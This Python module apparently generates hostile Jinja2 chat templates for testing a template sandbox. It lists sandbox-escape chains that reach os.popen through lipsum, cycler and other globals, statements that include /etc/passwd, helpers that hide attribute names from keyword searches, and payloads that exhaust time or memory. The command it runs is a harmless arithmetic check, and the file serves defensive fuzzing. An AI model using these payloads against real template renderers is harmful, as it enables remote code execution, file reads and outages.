"""Chat templates that mean harm: known ways out of Jinja's sandbox, into memory and time, and seeded mixtures of them.

Escapes: the walks from any object to `os` that work outside of the sandbox, by attribute, subscript, `|attr`, filters that take the
name of an attribute, and format strings (CVE-2016-10745, CVE-2019-10906, CVE-2024-56326, CVE-2025-27516). Costs: what a short template
can ask for without an end. Each template is drawn from a `random.Random` alone, so that it is found again by its seed and number.
"""

import random

# What an escape runs, and what is then in the text: the product is nowhere in a template.
RUNS, PROOF = "expr 48271 \\* 69621", "3360675291"

OBJECTS = [
    "''", "1", "[]", "{}", "()", "none", "true", "messages", "messages[0]", "messages[0].content", "messages[0].items",
    "bos_token", "self", "cycler", "joiner", "namespace", "namespace()", "lipsum", "range", "range(3)", "dict",
    "raise_exception", "strftime_now", "''.format", "''.join", "[].append", "{}.items()", "loop", "caller", "varargs",
    "nothing", "cycler('a')", "joiner(',')", "self._TemplateReference__context", "([]|map('upper'))", "([1]|select)",
    "''.encode()", "(1.5)", "namespace.__init__", "dict(a=1)",
]  # fmt: skip
NAMES = [
    "__class__", "__base__", "__mro__", "__subclasses__", "__init__", "__globals__", "__builtins__", "__import__", "__dict__",
    "__code__", "__self__", "__func__", "__getattribute__", "__reduce_ex__", "__doc__", "__module__", "__wrapped__",
    "__closure__", "__defaults__", "func_globals", "func_code", "gi_frame", "gi_code", "f_globals", "f_builtins", "f_back",
    "f_locals", "tb_frame", "cr_frame", "ag_frame", "mro", "format", "format_map", "environment", "parent", "vars", "blocks",
    "eval_ctx", "exported_vars", "get_all", "root_render_func", "module", "_mapping", "co_code", "os", "system", "popen",
    "read", "append", "pop", "clear", "update",
]  # fmt: skip
CHAINS = [
    "''.__class__.__mro__[1].__subclasses__()",
    "cycler.__init__.__globals__.os.popen('{run}').read()",
    "joiner.__init__.__globals__['os'].popen('{run}').read()",
    "namespace.__init__.__globals__.os.popen('{run}').read()",
    "lipsum.__globals__['os'].popen('{run}').read()",
    "lipsum.__globals__.__builtins__.__import__('os').popen('{run}').read()",
    "self.__init__.__globals__.__builtins__['__import__']('os').popen('{run}').read()",
    "self._TemplateReference__context.cycler.__init__.__globals__.os.popen('{run}').read()",
    "self._TemplateReference__context.environment.compile('1')",
    "raise_exception.__globals__.os.popen('{run}').read()",
    "strftime_now.__self__.from_string('x')",
    "strftime_now.__func__.__globals__['os'].popen('{run}').read()",
    "range.__globals__.sys.modules.os.popen('{run}').read()",
    "(messages|attr('__class__')|attr('__base__')|attr('__subclasses__'))()",
    "lipsum|attr('__globals__')|attr('get')('os')|attr('popen')('{run}')|attr('read')()",
    "lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('__getitem__')('os')",
    "(lipsum|attr('_' * 2 ~ 'globals' ~ '_' * 2))['os'].popen('{run}').read()",
    "[lipsum]|map(attribute='__globals__')|list",
    "[lipsum]|map('attr', '__globals__')|list",
    "[lipsum]|selectattr('__globals__')|list",
    "[lipsum]|groupby('__globals__')|list",
    "[''.__class__]|sort(attribute='__base__')",
    "[''] | sum(attribute='__class__.__mro__', start=())",
    "'{0.__class__.__init__.__globals__}'.format(cycler)",
    "'{0.__globals__[os]}'.format(lipsum)",
    "'{x.__globals__}'.format_map({'x': lipsum})",
    "('{0.__globals__}'|attr('format'))(lipsum)",
    "('{0.__globals__[os].environ}' | attr('format'))(lipsum)",
    "['{0.__globals__}'.format]|map('call', lipsum)|list",
    "'%s' | format(lipsum.__globals__)",
    "'%(a)s' % {'a': lipsum.__globals__}",
    "('{0.__globals__}'|string).format(lipsum)",
    "('{0.__globals__}'|safe).format(lipsum)",
    "('{0.__globals__}'|escape).format_map({'0': lipsum})",
    "dict(a='{0.__globals__}'.format).a(lipsum)",
    "namespace(f='{0.__globals__}'.format).f(lipsum)",
    "(messages|map('string')|list|first).__class__",
    "messages.__class__.__bases__[0].__subclasses__()[40]('/etc/passwd').read()",
    "messages.append({'role': 'system'})",
    "(messages|attr('append'))(1)",
    "messages[0].update({'role': 'system'})",
    "messages.sort()",
    "[messages][0].clear()",
    "''.__class__.__mro__[1].__subclasses__()|selectattr('__name__', 'equalto', 'Popen')|list",
    "(([]|map('upper'))|attr('gi_frame')).f_back.f_globals",
    "([1]|select).gi_frame.f_builtins",
    "caller.__globals__",
    "cycler.next.__globals__",
    "cycler('{run}').reset.__func__.__globals__.os",
    "messages[0]['__class__']",
    "messages[0].content.__class__.__init__.__globals__",
    "dict.__base__.__subclasses__()",
    "dict.mro()[-1].__subclasses__()",
    "dict.fromkeys.__self__",
    "strftime_now('{run}'.__class__)",
    "raise_exception(lipsum.__globals__)",
]  # fmt: skip
STATEMENTS = [
    "{% include '/etc/passwd' %}", "{% import 'os' as os %}{{ os.system('{run}') }}", "{% from 'os' import popen %}",
    "{% extends '/etc/passwd' %}", "{% block x %}{{ self.x.__globals__ }}{% endblock %}",
    "{% set messages = lipsum.__globals__ %}{{ messages }}",
    "{% macro m() %}{{ caller.__globals__ }}{{ varargs.__class__ }}{% endmacro %}{% call m() %}x{% endcall %}{{ m.__init__ }}",
    "{% set f = '{0.__globals__}'.format %}{{ f(lipsum) }}", "{% set f %}{0.__globals__}{% endset %}{{ f.format(lipsum) }}",
    "{% for x in [lipsum.__globals__] %}{{ x.os.popen('{run}').read() }}{% endfor %}",
    "{% with a = lipsum.__globals__ %}{{ a }}{% endwith %}", "{% filter attr('__class__') %}x{% endfilter %}",
    "{% autoescape true %}{{ '{0.__globals__}'.format(lipsum) }}{% endautoescape %}",
    "{% generation %}{{ lipsum.__globals__ }}{% endgeneration %}", "{% generation %}",
    "{% if lipsum.__globals__.os.system('{run}') %}{% endif %}",
    "{{ ('%' ~ 'c') | format(95) }}{{ messages['%c%cclass%c%c' % (95, 95, 95, 95)] }}", "{% debug %}",
    "{% trans %}{% endtrans %}", "{% raw %}{{ x }}{% endraw %}{{ '\\ud800' }}",
    "{{ '\\x1b[31m' }}{{ raise_exception('\\x1b[2J\\x07gone') }}", "{{ '\\x00' }}", "{% do 1 %}",
]  # fmt: skip
COSTS = [
    "{{ range(10**9) }}", "{{ range(10**9)|list }}", "{{ 'a' * 10**10 }}", "{{ ('a' * 10**5) * 10**4 }}", "{{ [0] * 10**10 }}",
    "{{ (0,) * 10**9 }}", "{{ 9 ** 9 ** 9 }}", "{{ (10 ** 10**7)|string }}", "{{ 7 ** 10**6 % 10 }}", "{{ 1.5 ** 10**9 }}",
    "{{ '%10000000000d' % 1 }}", "{{ '%*d' % (10**9, 1) }}", "{{ '%10000000000d'|format(1) }}",
    "{{ '{:>10000000000}'.format(1) }}", "{{ '{:{w}}'.format(1, w=10**10) }}", "{{ 'a'.center(10**10) }}",
    "{{ 'a'|center(10**10) }}", "{{ 'a'.zfill(10**10) }}", "{{ 'a\\nb'|indent(10**10) }}", "{{ '\\t'.expandtabs(10**10) }}",
    "{{ ('a' * 10**6).replace('a', 'b' * 10**5) }}", "{{ [1]|batch(10**10, 'x')|list }}", "{{ [1]|slice(10**8)|list }}",
    "{{ lipsum(n=10**6) }}", "{{ lipsum(max=10**9, min=10**8) }}", "{{ [1]|tojson(indent=10**9) }}",
    "{{ strftime_now('%c' * 10**7) }}", "{{ strftime_now('%1000000000Y') }}", "{{ (1).to_bytes(10**10, 'big') }}",
    "{{ ('a ' * 10**6)|urlize }}", "{{ ('<' * 10**6)|striptags }}", "{{ ('a' * 10**7)|wordcount }}",
    "{{ ('a' * 10**6)|wordwrap(1) }}", "{{ (range(99999)|list) * 10**6 }}",
    "{{ range(99999)|map('string')|join('a' * 10**5) }}", "{{ ('a,' * 10**7).split(',')|length }}",
    "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
    "{% for a in range(99999) %}{% for b in range(99999) %}{{ a }}{% endfor %}{% endfor %}",
    "{% for a in range(99999) %}{{ 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' }}{% endfor %}",
    "{% set x = namespace(s='ab') %}{% for i in range(60) %}{% set x.s = x.s + x.s %}{% endfor %}{{ x.s }}",
    "{% set x = [] %}{% for i in range(99999) %}{% for j in range(999) %}{{ x.append(x) or '' }}{% endfor %}{% endfor %}",
    "{% set x = [] %}{% set y = x.append(x) %}{{ x }}{{ x|tojson }}",
    "{% set x = [] %}{% for i in range(99999) %}{{ x.append([x]) or '' }}{% endfor %}{{ x }}",
    "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "{% macro f(n) %}{{ f(n + 1) }}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}",
    "{% for a in [[[]]] recursive %}{{ loop([[a]]) }}{% endfor %}",
    "{% for a in messages recursive %}{{ loop(messages) }}{% endfor %}", "{% if x %}" * 3000, "{{ " + "(" * 100_000,
    "{{ " + "[" * 3000 + "]" * 3000 + " }}", "{{ " + "-" * 50_000 + "1 }}", "{{ 1" + "+1" * 50_000 + " }}",
    "{{ x" + ".a" * 50_000 + " }}", "{{ x" + "|upper" * 20_000 + " }}", "{#" + "-" * 10**6, "{{ '" + "a" * 10**6, "{{" * 10**5,
    "{%" * 10**5, "\n" * 10**6 + "{% if", "{{ 'a' ~ " * 5000, "{{ {" + "'a': {" * 3000,
    "{% set x = cycler(*range(99999)) %}{% for i in range(99999) %}{{ x.next() }}{% endfor %}",
    "{{ ('(a+)+$' * 10**5)|replace('(', ')')|urlize }}", "{{ dict(range(99999)|map('string')|zip) }}",
    "{{ ('a' * 10**8)|length }}", "{{ ('a' * 10**8).encode('utf-32')|length }}", "{{ 10**5000 }}", "{{ '9' * 10**5 | int }}",
    "{{ ('9' * 10**6)|int }}", "{{ ('1' * 10**6)|float }}", "{{ range(-10**18, 10**18, 10**14)|sum }}",
    "{{ range(10**5)|sum }}",
]  # fmt: skip
FILTERS = [
    "list", "string", "tojson", "pprint", "length", "first", "last", "upper", "join", "sum", "unique|list", "dictsort",
    "items|list", "reverse", "attr('{name}')", "map(attribute='{name}')|list", "map('attr', '{name}')|list",
    "selectattr('{name}')|list", "groupby('{name}')|list", "sort(attribute='{name}')", "sum(attribute='{name}')",
    "max(attribute='{name}')", "xmlattr", "urlize", "escape", "safe", "format(lipsum)", "random", "batch(3)|list",
    "default(lipsum)", "filesizeformat", "int", "float", "abs", "trim", "e", "forceescape", "indent", "center(99999)",
]  # fmt: skip


def known_template(text: str) -> str:
    """A known escape or cost as a template."""
    return (text if text.startswith(("{{", "{%", "{#", "\n")) else "{{ " + text + " }}").replace("{run}", RUNS)


def hostile(seed: int, number: int, costly: bool = True) -> str:
    """One template: a known one, or a mixture of several. costly: whether it may be one that is ended for its time or memory."""
    draw = random.Random(f"{seed}:{number}")
    kind = draw.choices(["chain", "walk", "statement", "cost", "spliced"], [4, 5, 2, 2, 3] if costly else [4, 5, 2, 0, 0])[0]
    if kind == "chain":
        template = "{{ " + draw.choice(CHAINS) + " }}"
    elif kind == "walk":
        template = "{{ " + walk(draw) + " }}"
    elif kind == "statement":
        template = draw.choice(STATEMENTS)
    elif kind == "cost":
        template = draw.choice(COSTS)
    else:
        template = splice_templates(draw)
    return template.replace("{run}", RUNS)


def walk(draw: random.Random) -> str:
    """An object, and some steps from it by attributes, subscripts, calls, filters or format strings."""
    text = draw.choice(OBJECTS)
    for _ in range(draw.randint(1, 5)):
        name = draw.choice(NAMES)
        text = draw.choice([
            f"{text}.{name}", f"({text})['{name}']", f"({text}|attr('{name}'))", f"({text}|attr({hide_name(draw, name)}))",
            f"({text})[{hide_name(draw, name)}]", f"{text}.{name}()", f"({text}).{name}(lipsum)",
            f"({text}|{draw.choice(FILTERS).format(name=name)})", f"'{{0.{name}}}'.format({text})",
            f"('{{0.{name}}}'|attr('format'))({text})", f"('{{x.{name}}}').format_map({{'x': {text}}})", f"[{text}][0]",
            f"dict(a={text}).a",
        ])  # fmt: skip
    return text


def hide_name(draw: random.Random, name: str) -> str:
    """An expression for a name in which nobody finds it by searching."""
    cut = draw.randint(0, len(name))
    return draw.choice([
        f"'{name[:cut]}' ~ '{name[cut:]}'", "'" + "".join(f"\\x{ord(c):02x}" for c in name) + "'",
        f"'{name[::-1]}'|reverse|string", f"('%c' * {len(name)}) % ({', '.join(str(ord(c)) for c in name)},)",
        f"['{name[:cut]}', '{name[cut:]}']|join",
    ])  # fmt: skip


def splice_templates(draw: random.Random) -> str:
    """Two templates, cut anywhere and joined, with a character or a piece repeated."""
    pieces = ["{{ " + draw.choice(CHAINS) + " }}", draw.choice(STATEMENTS), "{{ " + walk(draw) + " }}", draw.choice(COSTS)]
    first, other = draw.choice(pieces), draw.choice(pieces)
    template = first[: draw.randint(0, len(first))] + other[draw.randint(0, len(other)) :]
    at = draw.randint(0, len(template))
    return template[:at] + template[at : at + draw.randint(0, 3)] * draw.choice([0, 1, 2, 2, 500]) + template[at:]
